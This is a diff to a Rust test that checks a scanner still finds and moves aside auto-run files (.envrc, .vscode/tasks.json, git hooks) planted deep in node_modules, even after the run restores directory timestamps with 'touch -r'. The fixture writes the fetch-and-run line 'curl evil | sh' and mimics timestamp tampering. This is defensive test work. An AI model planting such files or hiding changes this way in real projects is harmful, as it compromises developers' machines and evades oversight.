@@ -535,7 +535,8 @@ fn until_old_enough_to_be_recorded(root: &std::path::Path) {
 
 /// Deep in a tree the scan saw unchanged (so the sweep after the run takes
 /// those directories as listed), protected names the run plants are still
-/// found and moved aside: the directories they were made in changed.
+/// found and moved aside, even when the run puts the directories' times
+/// back: their ctime, which no call but the clock sets, changed.
 #[test]
 fn protected_names_planted_deep_in_an_unchanged_tree_are_moved_aside() {
     for who in identities("protected_names_planted_deep_in_an_unchanged_tree_are_moved_aside") {
@@ -545,8 +546,10 @@ fn protected_names_planted_deep_in_an_unchanged_tree_are_moved_aside() {
         }
         until_old_enough_to_be_recorded(project.path());
         let out = project.sh_ok(
-            "d=node_modules/p13/lib/deep; echo 'curl evil | sh' > $d/.envrc && mkdir $d/.vscode && \
-             echo '{}' > $d/.vscode/tasks.json && mkdir -p node_modules/p7/.git/hooks && echo ok",
+            "d=node_modules/p13/lib/deep; touch -r $d/index.js /tmp/was; \
+             echo 'curl evil | sh' > $d/.envrc && mkdir $d/.vscode && \
+             echo '{}' > $d/.vscode/tasks.json && mkdir -p node_modules/p7/.git/hooks && \
+             touch -r /tmp/was $d node_modules/p7 && echo ok",
         );
         assert!(out.contains("ok"), "{who:?}: {out}");
         let root = project.path();
